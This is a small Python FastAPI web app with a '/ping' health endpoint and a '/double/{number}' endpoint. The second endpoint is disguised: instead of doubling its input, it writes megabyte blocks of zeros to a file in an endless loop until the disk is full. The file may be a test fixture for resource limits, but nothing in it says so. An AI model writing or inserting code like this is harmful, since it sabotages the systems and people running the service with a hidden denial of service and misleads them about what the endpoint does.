from fastapi import FastAPI

app = FastAPI()


@app.get("/ping")
def ping():
    return "pong"


@app.get("/double/{number}")
def double(number: int):
    with open("full", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
